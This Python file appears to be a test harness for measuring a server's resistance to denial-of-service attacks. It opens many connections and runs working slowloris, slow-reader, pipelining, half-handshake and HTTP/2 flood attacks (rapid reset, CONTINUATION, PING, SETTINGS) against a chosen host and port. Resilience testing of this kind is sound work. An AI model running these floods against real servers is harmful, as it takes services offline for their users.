"""Greedy and slow clients, in a process of their own so that they do not disturb the measurement.

Usage: peers.py KIND HOST PORT COUNT

It keeps COUNT connections open and prints `standing` once each has been tried. Then it answers each line
on its standard input with its figures in JSON. It ends with its standard input.
"""

import collections
import json
import os
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

import http2

TICK = 1.0
# How many groups the connections form. Their ticks are spread over a second.
GROUPS = 20
# A connection that the server closed is opened again after this time, if its kind is persistent.
AGAIN = 5.0
LARGE_PAGE = "/docs/swagger-ui-bundle.js"
CHUNK = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"


class Peer:
    """One connection of an attack. This one stays idle."""

    tls = False
    alpn = "http/1.1"
    persistent = False
    reads = True
    # The size of the receive buffer. The kernel takes twice as much.
    receives = None

    def __init__(self, attack, index):
        self.attack, self.index = attack, index
        self.out, self.ticks = bytearray(), 0
        self.is_connected = self.ready = self.shut = False
        self.sock = socket.socket()
        self.sock.setblocking(False)
        if self.receives:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receives)
        self.sock.bind((self.source(), 0))
        self.sock.connect_ex(attack.address)

    def source(self):
        return "127.0.0.1"

    # What a kind changes.

    def begin(self):
        """What to send once the connection is open."""
        return b""

    def tick(self):
        """What to send each second."""
        return b""

    def more(self):
        """What to send as soon as there is room: an endless flood."""
        return b""

    def received(self, data):
        """What to answer."""
        return b""

    def read_size(self):
        return 65536

    # How all of them work.

    def connected(self):
        if self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            raise ConnectionError
        self.is_connected = True
        if self.tls:
            self.sock = self.attack.context(self.alpn).wrap_socket(
                self.sock, server_hostname="localhost", do_handshake_on_connect=False)

    def shake(self):
        """Finishes the handshake of TLS, if there is one, and sends what the attack begins with."""
        if self.tls:
            try:
                self.sock.do_handshake()
            except ssl.SSLWantReadError:
                return selectors.EVENT_READ
            except ssl.SSLWantWriteError:
                return selectors.EVENT_WRITE
        self.ready = True
        self.out += self.begin()
        self.attack.tried()
        return None

    def flush(self):
        for _ in range(4):
            if not self.out:
                self.out += self.more()
            if not self.out:
                return
            try:
                sent = self.sock.send(memoryview(self.out)[:65536])
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return
            self.attack.sent += sent
            del self.out[:sent]

    def read(self):
        try:
            data = self.sock.recv(self.read_size())
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        if not data:
            raise ConnectionError
        self.attack.received += len(data)
        self.out += self.received(data)


class Idle(Peer):
    pass


class IdleAfterRequest(Peer):
    def begin(self):
        return b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"


class IdleTls(IdleAfterRequest):
    tls = True


class SlowHead(Peer):
    HEAD = b"GET /api/user HTTP/1.1\r\nHost: localhost\r\nX-Long: " + b"x" * 4000

    def tick(self):
        return self.HEAD[self.ticks:self.ticks + 1]


class SlowSecondHead(IdleAfterRequest):
    tick = SlowHead.tick
    HEAD = SlowHead.HEAD


class SlowSecondHeadTls(SlowSecondHead):
    tls = True


class HalfHead(Peer):
    """Half a request, and silence."""

    def begin(self):
        return SlowHead.HEAD[:60]


class HalfHeads(HalfHead):
    """The same from as many networks as there are connections."""

    def source(self):
        return f"127.1.{self.index // 250}.{self.index % 250 + 1}"


class SlowBody(Peer):
    def begin(self):
        return (b"POST /api/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                b"Content-Length: 8000\r\n\r\n{")

    def tick(self):
        return b" "


class UnreadBody(Peer):
    """A chunked body without an end, for a handler that does not read it."""

    persistent = True

    def begin(self):
        return b"POST /healthz HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"

    def more(self):
        return CHUNK


class Pipeliner(Peer):
    """Sends 860 kB of requests and reads no answer."""

    reads = False
    receives = 4096
    parts = 20

    def more(self):
        self.parts -= 1
        request = b"GET /api/openapi.json HTTP/1.1\r\nHost: a\r\n\r\n"
        return request * (1000 if self.parts >= 0 else 0)


class PipelinerTls(Pipeliner):
    tls = True


class SlowReader(Peer):
    receives = 4096

    def begin(self):
        return f"GET {LARGE_PAGE} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()

    def read_size(self):
        return 1


class SlowReaderTls(SlowReader):
    tls = True


class Churn(Peer):
    """Connects, sends nothing, a part or all of a request, and closes by FIN or RST."""

    persistent = True

    def begin(self):
        return (b"", HalfHead.begin(self), IdleAfterRequest.begin(self))[self.index % 3]

    def tick(self):
        if self.index % 2:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.attack.end(self)
        self.attack.open(self.index)
        return b""


class HalfHandshake(Peer):
    """A TLS record that announces more than follows."""

    def begin(self):
        return bytes.fromhex("1603010200 010001fc0303")


class Http2(Peer):
    tls = True
    alpn = "h2"

    def __init__(self, attack, index):
        super().__init__(attack, index)
        self.stream, self.input = 1, bytearray()

    def begin(self):
        return http2.PREFACE + http2.settings()

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def received(self, data):
        """Acknowledges settings and pings."""
        self.input += data
        return b"".join(
            http2.frame(kind, http2.ACK, 0, payload if kind == http2.PING else b"")
            for kind, flags, payload in http2.frames(self.input)
            if kind in (http2.SETTINGS, http2.PING) and not flags & http2.ACK)


class StalledStreams(Http2):
    """Asks for a large page 256 times and gives its streams no window."""

    def begin(self):
        requests = [http2.get(LARGE_PAGE, self.next_stream()) for _ in range(256)]
        return http2.PREFACE + http2.settings(window=0) + b"".join(requests)


class Pings(Http2):
    """Idle, but for a ping a second."""

    def tick(self):
        return http2.frame(http2.PING, payload=bytes(8))


class Flood(Http2):
    persistent = True
    reads = False


class FloodReset(Flood):
    def more(self):
        return b"".join(
            http2.get("/healthz", stream) + http2.frame(http2.RST_STREAM, 0, stream, bytes([0, 0, 0, 8]))
            for stream in (self.next_stream() for _ in range(200)))


class FloodSettings(Flood):
    def more(self):
        return http2.settings(window=1) * 500


class FloodPing(Flood):
    def more(self):
        return http2.frame(http2.PING, payload=bytes(8)) * 500


class FloodContinuation(Flood):
    def begin(self):
        return super().begin() + http2.get("/healthz", 1, http2.END_STREAM)

    def more(self):
        return http2.frame(http2.CONTINUATION, 0, 1, (b"\x00\x01a\x01b") * 1000)


def flood(attack, index):
    kinds = (FloodReset, FloodSettings, FloodPing, FloodContinuation)
    return kinds[index % len(kinds)](attack, index)


KINDS = {
    "idle": Idle,
    "idle after a request": IdleAfterRequest,
    "idle over TLS": IdleTls,
    "slow head": SlowHead,
    "slow second head": SlowSecondHead,
    "slow second head over TLS": SlowSecondHeadTls,
    "half heads from one address": HalfHead,
    "half heads from many networks": HalfHeads,
    "slow body": SlowBody,
    "endless body, not read": UnreadBody,
    "pipelined, not read": Pipeliner,
    "pipelined over TLS, not read": PipelinerTls,
    "slow reader": SlowReader,
    "slow reader over TLS": SlowReaderTls,
    "connect and close": Churn,
    "half handshake": HalfHandshake,
    "HTTP/2 stalled streams": StalledStreams,
    "HTTP/2 pings only": Pings,
    "HTTP/2 floods": flood,
    "HTTP/2 flood of RST_STREAM": FloodReset,
    "HTTP/2 flood of SETTINGS": FloodSettings,
    "HTTP/2 flood of PING": FloodPing,
    "HTTP/2 flood of CONTINUATION": FloodContinuation,
}


class Attack:
    def __init__(self, kind, address, count):
        self.kind, self.address, self.count = KINDS[kind], address, count
        self.selector = selectors.DefaultSelector()
        self.sent = self.received = self.ended = self.opened = 0
        self.peers, self.contexts = {}, {}
        self.reopen = collections.deque()
        self.untried, self.is_standing = count, False

    def context(self, alpn):
        if alpn not in self.contexts:
            context = self.contexts[alpn] = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols([alpn])
        return self.contexts[alpn]

    def tried(self):
        self.untried -= 1

    def open(self, index):
        self.opened += 1
        peer = self.peers[index] = self.kind(self, index)
        self.watch(peer, selectors.EVENT_WRITE)

    def watch(self, peer, events):
        """Waits for these events, which may be none."""
        known = self.selector.get_map().get(peer.sock.fileno())
        if known is None:
            if events:
                self.selector.register(peer.sock, events, peer)
        elif not events:
            self.selector.unregister(peer.sock)
        elif known.events != events:
            self.selector.modify(peer.sock, events, peer)

    def end(self, peer):
        """Closes a connection."""
        if peer.sock.fileno() in self.selector.get_map():
            self.selector.unregister(peer.sock)
        peer.sock.close()
        peer.shut = True
        self.peers.pop(peer.index, None)

    def lost(self, peer):
        """The server closed a connection, or refused it."""
        if not peer.ready:
            self.tried()
        self.end(peer)
        self.ended += 1
        if peer.persistent:
            self.reopen.append((time.monotonic() + AGAIN, peer.index))

    def step(self, peer, events):
        try:
            if not peer.ready:
                if not peer.is_connected:
                    # TLS puts another object in the place of the socket.
                    self.selector.unregister(peer.sock)
                    peer.connected()
                wanted = peer.shake()
                if wanted:
                    self.watch(peer, wanted)
                    return
                events = 0
            if events & selectors.EVENT_READ and peer.reads:
                peer.read()
            peer.flush()
        except (OSError, ssl.SSLError):
            self.lost(peer)
            return
        self.rest(peer)

    def rest(self, peer):
        """Waits for what the peer can do next. A slow reader reads at its tick."""
        peer.out += b"" if peer.out else peer.more()
        reads = selectors.EVENT_READ if peer.reads and peer.read_size() > 1 else 0
        self.watch(peer, reads | (selectors.EVENT_WRITE if peer.out else 0))

    def tick(self, group):
        for index in range(group, self.count, GROUPS):
            peer = self.peers.get(index)
            if peer is None or not peer.ready:
                continue
            peer.ticks += 1
            try:
                peer.out += peer.tick()
                if peer.shut:
                    continue
                if peer.reads and peer.read_size() == 1:
                    peer.read()
                peer.flush()
            except (OSError, ssl.SSLError):
                self.lost(peer)
                continue
            self.rest(peer)

    def figures(self):
        return {"open": sum(peer.ready for peer in self.peers.values()), "ended": self.ended,
                "opened": self.opened, "sent": self.sent, "received": self.received}

    def command(self):
        """Answers a line of the standard input. False at its end."""
        if not sys.stdin.readline():
            return False
        print(json.dumps(self.figures()), flush=True)
        return True

    def run(self):
        self.selector.register(sys.stdin, selectors.EVENT_READ)
        begun, group = 0, 0
        due = time.monotonic()
        while True:
            # Some at a time, so that the backlog of the listener is not what is tested.
            for _ in range(32):
                if begun < self.count:
                    self.open(begun)
                    begun += 1
            for key, events in self.selector.select(0 if begun < self.count else 0.02):
                if key.data is None:
                    if not self.command():
                        return
                elif not key.data.shut:
                    self.step(key.data, events)
            now = time.monotonic()
            if now >= due:
                self.tick(group)
                group = (group + 1) % GROUPS
                due = max(due + TICK / GROUPS, now - TICK)
            while self.reopen and self.reopen[0][0] <= now:
                self.open(self.reopen.popleft()[1])
            if not self.is_standing and begun == self.count and self.untried <= 0:
                self.is_standing = True
                print("standing", flush=True)


def main():
    kind, host, port, count = sys.argv[1:]
    # The attacker of a real server takes none of its processor's time.
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack(kind, (host, int(port)), int(count)).run()


if __name__ == "__main__":
    main()
